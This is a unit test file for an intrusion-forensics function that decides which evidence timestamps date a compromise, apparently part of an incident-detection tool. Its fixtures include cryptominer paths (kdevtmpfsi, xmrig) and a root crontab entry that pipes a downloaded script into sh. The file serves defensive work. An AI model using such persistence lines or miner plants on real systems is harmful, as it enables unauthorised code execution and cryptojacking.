import { describe, expect, it } from 'vitest';
import { intrusionTime } from '../../../src/findings/evidence-time.js';

// Which evidence times date an intrusion (the incident's "since when").
describe('intrusionTime', () => {
  it('keeps process starts, planted files and cron files', () => {
    expect(intrusionTime({ kind: 'process', text: '/tmp/kdevtmpfsi', pid: 9, time: 1_764_000_000 })).toBe(1_764_000_000);
    expect(intrusionTime({ kind: 'file', text: 'x', path: '/tmp/.X11-unix/xmrig', time: 1_764_000_001 })).toBe(1_764_000_001);
    expect(intrusionTime({ kind: 'line', text: '* * * * * curl x | sh', path: '/var/spool/cron/crontabs/root', lineNumber: 2, time: 1_764_000_002 })).toBe(1_764_000_002);
  });
  it('drops shared files, accounts, system binary directories and missing times', () => {
    expect(intrusionTime({ kind: 'file', text: 'x', path: '/etc/passwd', time: 1_700_000_000 })).toBeUndefined();
    expect(intrusionTime({ kind: 'account', text: 'uid 0 account x', time: 1_700_000_000 })).toBeUndefined();
    expect(intrusionTime({ kind: 'file', text: 'x', path: '/usr/bin/pstree.original', time: 1_670_909_271 })).toBeUndefined();
    expect(intrusionTime({ kind: 'file', text: 'x', path: '/tmp/x' })).toBeUndefined();
  });
});
